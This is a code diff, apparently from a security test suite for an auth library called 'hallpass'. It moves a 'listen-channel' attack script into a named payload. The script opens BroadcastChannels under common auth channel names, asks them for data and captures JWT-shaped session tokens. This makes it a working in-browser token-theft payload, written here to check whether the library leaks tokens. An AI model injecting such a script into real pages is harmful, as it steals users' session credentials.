@@ -4,6 +4,20 @@
 import type { Attack } from '../attack.ts'
 import { press } from '../scene.ts'
 import { judgeToken } from './loot.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = async (kit) => {
+  const names = ['/api/auth/', '/auth/', '/'].map((path) => `hallpass ${new URL(path, location.href).href}`)
+  for (const name of [...names, 'auth', 'token', 'session', 'supabase.auth.token']) {
+    const channel = new BroadcastChannel(name)
+    channel.addEventListener('message', ({ data }) => {
+      kit.take('token', /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(JSON.stringify(data))?.[0])
+    })
+    // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel never leaves its origin
+    channel.postMessage(['ask', ''])
+  }
+  await new Promise((resolve) => setTimeout(resolve, 300))
+}
 
 export const listenChannel: Attack = {
   name: 'listen-channel',
@@ -13,22 +27,12 @@ export const listenChannel: Attack = {
   why: 'Every script of the origin may open the channel. Ours hands the token over to whoever asks there.',
   stops:
     'Not handing tokens over (`share: false`); it buys little, because the same script can call the refresh endpoint.',
+  script: { when: 'late', payload: script },
   control: 'hallpass',
   succeedsOn: ['hallpass'],
   async run(scene) {
     const page = await scene.signIn()
-    await scene.injectLate(async (kit) => {
-      const names = ['/api/auth/', '/auth/', '/'].map((path) => `hallpass ${new URL(path, location.href).href}`)
-      for (const name of [...names, 'auth', 'token', 'session', 'supabase.auth.token']) {
-        const channel = new BroadcastChannel(name)
-        channel.addEventListener('message', ({ data }) => {
-          kit.take('token', /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(JSON.stringify(data))?.[0])
-        })
-        // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel never leaves its origin
-        channel.postMessage(['ask', ''])
-      }
-      await new Promise((resolve) => setTimeout(resolve, 300))
-    })
+    await scene.injectLate(script)
     await press(page, '#read-notes', /read|error/)
     return judgeToken(scene, page, await scene.thief.report(), 'was told nothing on any channel')
   },
